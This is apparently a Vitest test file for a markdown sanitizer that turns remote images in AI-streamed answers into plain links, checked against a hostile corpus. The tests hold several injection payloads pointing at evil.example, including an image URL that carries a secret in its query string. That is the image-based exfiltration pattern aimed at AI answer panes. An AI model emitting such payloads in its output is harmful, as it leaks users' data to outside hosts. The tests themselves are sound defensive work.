// @vitest-environment happy-dom
/**
 * Remote images in answers are shown as plain links (issue 13; issue 31, defect 4): the shared
 * hostile corpus (shared-schemas/fixtures/hostile-markdown.json, also run by
 * tests/test_safe_markdown.py), and the ask pane's rendering of a streamed answer. The check is
 * by rendering: the output is rendered with markdown-it (raw HTML on, GFM tables) and the HTML
 * parsed with htmlparser2; no element may load a remote URL.
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

import { Parser } from "htmlparser2";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";

import type { AskEvent } from "../src/client";
import { AskPane } from "../src/view/pane";
import { neutralizeRemoteImages } from "../src/view/safeMarkdown";

interface HostileCase {
  name: string;
  input: string;
  links?: string[];
  survive?: string[];
  unchanged?: boolean;
}

const FIXTURE = path.resolve(
  path.dirname(fileURLToPath(import.meta.url)),
  "../../shared-schemas/fixtures/hostile-markdown.json",
);
const CORPUS = (JSON.parse(readFileSync(FIXTURE, "utf-8")) as { cases: HostileCase[] }).cases;
const RENDER = new MarkdownIt("commonmark", { html: true }).enable(["table", "strikethrough"]);
const LOADS = new Set(["src", "srcset", "data", "poster", "background", "lowsrc", "dynsrc", "xlink:href"]);
const HREF_LOADS = new Set(["link", "base", "image", "use", "feimage", "script"]);
const LOCAL = /^(?![a-zA-Z][a-zA-Z0-9+.-]*:|[/\\]{2})|^data:/i;

/** What the rendered markdown loads by itself (never `<a href>`: a click), and its links. */
function rendered(markdown: string): { loads: string[]; links: string[] } {
  const loads: string[] = [];
  const links: string[] = [];
  const parser = new Parser(
    {
      onopentag(tag, attribs) {
        for (const [name, raw] of Object.entries(attribs)) {
          const value = raw.trim();
          const urls = name.includes("srcset") ? value.split(",").map((p) => p.trim().split(/\s+/)[0] ?? "") : [value];
          if (LOADS.has(name) || name.includes("srcset") || (name === "href" && HREF_LOADS.has(tag))) {
            for (const url of urls) if (url && !LOCAL.test(url)) loads.push(`<${tag} ${name}=${url}>`);
          }
          if (name === "style" && value.toLowerCase().includes("url(")) loads.push(`<${tag} style=${value}>`);
          if (tag === "a" && name === "href") links.push(decodeURI(value));
        }
        if (tag === "style" || tag === "meta") loads.push(`<${tag}>`);
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(RENDER.render(markdown));
  parser.end();
  return { loads, links };
}

describe("the hostile corpus", () => {
  it("is hostile: rendered as they are, its inputs load remote URLs (the check can fail)", () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(40);
    for (const c of CORPUS) expect(rendered(c.input).loads.length === 0, c.name).toBe(Boolean(c.unchanged));
  });

  it.each(CORPUS.map((c) => [c.name, c] as const))("%s: loads nothing remote, keeps what it should", (_name, c) => {
    const out = neutralizeRemoteImages(c.input);
    const page = rendered(out);
    expect(page.loads, out).toEqual([]);
    for (const url of c.links ?? []) expect(page.links, out).toContain(url);
    for (const text of c.survive ?? []) expect(out).toContain(text);
    if (c.unchanged) expect(out).toBe(c.input);
  });

  it.each([
    "![q](<https://evil.example/q k.png>)",
    "![pic]\n\n[pic]: https://evil.example/p.png",
    "![a\nb](https://evil.example/p.png)",
    "![a [b [c]]](https://evil.example/p.png)",
    "![a \\] b](https://evil.example/p.png)",
    '<img alt="a>b" src="https://evil.example/p.png">',
    "![e](&#104;ttps://evil.example/p.png)",
  ])("neutralizes %j, a form of issue 31", (raw) => {
    expect(rendered(raw).loads.length).toBeGreaterThan(0);
    expect(rendered(neutralizeRemoteImages(raw)).loads).toEqual([]);
  });

  it("escapes reference images even before their definition has arrived", () => {
    expect(neutralizeRemoteImages("Here: ![pic] and ![a][b] and ![c][]")).toBe("Here: \\![pic] and \\![a][b] and \\![c][]");
    expect(neutralizeRemoteImages("![[Note]] and ![[x.png]]")).toBe("![[Note]] and ![[x.png]]");
  });

  it("keeps every prefix of a stream of corpus pieces from loading anything (as the pane renders them)", () => {
    let seed = 7;
    const random = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (let run = 0; run < 40; run++) {
      const picks = Array.from({ length: 1 + random(4) }, () => CORPUS[random(CORPUS.length)]!.input);
      const text = picks.join(["\n", " ", "\n\n"][random(3)]);
      for (let cut = 1; cut <= text.length; cut += 1 + random(9)) {
        const prefix = text.slice(0, cut);
        expect(rendered(neutralizeRemoteImages(prefix)).loads, prefix).toEqual([]);
      }
    }
  });
});

describe("the ask pane", () => {
  it("renders a streamed answer's remote images as links, never as images", async () => {
    const shown: string[] = [];
    const events: AskEvent[] = [
      { type: "delta", text: "Look: ![leak](https://evil.example/p.png?q=secret) " },
      { type: "delta", text: '<img src="https://evil.example/i.gif"> and ![[local.png]] ![ref]' },
      { type: "delta", text: "\n\n[ref]: https://evil.example/ref.png" },
      {
        type: "final",
        answer: "Look: ![leak](https://evil.example/p.png?q=secret) ![[local.png]]",
        answerId: "a",
        threadId: null,
        citations: [],
        usage: null,
        data: {},
      },
    ];
    const pane = new AskPane(document.body, {
      ask: () => ({
        async *[Symbol.asyncIterator]() {
          yield* events;
        },
      }),
      feedback: async () => ({}),
      promote: async () => "",
      openNote: () => undefined,
      openSavedNote: () => undefined,
      renderMarkdown: async (markdown, el) => {
        shown.push(markdown);
        el.textContent = markdown;
        return () => undefined;
      },
      defaultMode: () => "strict",
      newThreadId: () => "t",
    });
    await pane.ask("q");
    await pane.lastTurn?.settled();
    expect(shown.length).toBeGreaterThan(0);
    for (const markdown of shown) {
      expect(markdown).not.toMatch(/<img/i);
      expect(rendered(markdown).loads).toEqual([]);
    }
    expect(shown.at(-1)).toBe("Look: \\![leak](https://evil.example/p.png?q=secret) ![[local.png]]");
  });
});
